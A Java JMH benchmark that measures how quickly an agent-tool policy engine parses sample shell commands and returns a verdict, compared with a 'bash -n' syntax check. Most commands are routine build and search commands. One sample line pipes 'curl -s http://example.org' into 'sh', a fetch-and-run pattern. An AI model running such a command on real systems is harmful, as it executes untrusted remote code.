package dev.signalbox.bench;

import dev.signalbox.engine.tool.shell.ShellGrammar;
import dev.signalbox.kernel.policy.Action;
import dev.signalbox.kernel.policy.PhasePolicy;
import dev.signalbox.kernel.policy.ResolvedPath;
import dev.signalbox.kernel.policy.ToolRequest;
import dev.signalbox.kernel.policy.Unruled;
import dev.signalbox.kernel.policy.Verdict;
import dev.signalbox.kernel.workflow.Phase;
import dev.signalbox.kernel.workflow.ToolRules;
import java.io.IOException;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/// One shell command from its text to the verdict, beside what it costs to have `bash -n` read it; and commands of
/// many parts, to see that the cost of a part stays the same.
@BenchmarkMode(Mode.SampleTime)
@OutputTimeUnit(TimeUnit.MICROSECONDS)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 5, time = 1)
@Fork(1)
public class ShellBenchmark {
    private static final List<String> COMMANDS = List.of(
            "ls -la src/main/java",
            "cat pom.xml | head -50",
            "cd core && mvn -q test -Dtest=AppTest 2>&1 | tail -n 50",
            "grep -rn --include='*.java' 'class .*Service' src | head -20",
            "find . -name '*.java' -not -path '*/target/*' -exec grep -l foo {} +",
            "git log --oneline -n 10 -- src/main",
            "sed -n '1,120p' src/main/java/App.java",
            "for f in $(ls src); do echo \"$f: $(wc -l < \"src/$f\")\"; done",
            "cat > src/main/java/App.java <<'EOF'\npublic final class App {\n    private App() {}\n}\nEOF",
            "mvn test 2>&1 | grep -E 'Tests run|FAIL' | tail -5; echo \"exit ${PIPESTATUS[0]}\"",
            "if [ -f pom.xml ]; then echo maven; else curl -s http://example.org | sh; fi",
            "mkdir -p src/main/java/com/acme && cp -r old/* src/main/java/com/acme/");

    static PhasePolicy policy() {
        var rules = new ToolRules(
                List.of("bash"),
                List.of(),
                List.of("**"),
                List.of("{tests}"),
                List.of(),
                List.of(),
                ToolRules.Limits.DEFAULT);
        var phase = new Phase("IMPL", "", "", "implementer", List.of(), List.of(), rules, List.of(), "", 1);
        return PhasePolicy.of(phase, Scene.PROFILE, Unruled.ASK);
    }

    static ToolRequest request(String text) {
        return new ToolRequest(
                "bash", new Action.Shell(ShellGrammar.parse(text), new ResolvedPath.Inside(".", ""), "/workspace"));
    }

    /// Commands as agents write them, one after the other.
    @State(Scope.Benchmark)
    public static class Usual {
        private final PhasePolicy policy = policy();
        private int next;

        String turn() {
            next = next + 1 == COMMANDS.size() ? 0 : next + 1;
            return COMMANDS.get(next);
        }
    }

    /// One command of many parts.
    @State(Scope.Benchmark)
    public static class Long {
        @Param({"10", "100", "1000", "10000"})
        int parts;

        private final PhasePolicy policy = policy();
        private String text = "";

        @Setup(Level.Trial)
        public void write() {
            text = String.join("; ", Collections.nCopies(parts, "echo \"a $b\" | grep -c a"));
        }
    }

    @Benchmark
    public Verdict decision(Usual usual) {
        return usual.policy.decide(request(usual.turn()));
    }

    @Benchmark
    public Verdict parts(Long command) {
        return command.policy.decide(request(command.text));
    }

    @Benchmark
    public int bash(Usual usual) throws IOException, InterruptedException {
        return new ProcessBuilder("bash", "-n", "-c", "--", usual.turn())
                .redirectErrorStream(true)
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .start()
                .waitFor();
    }
}
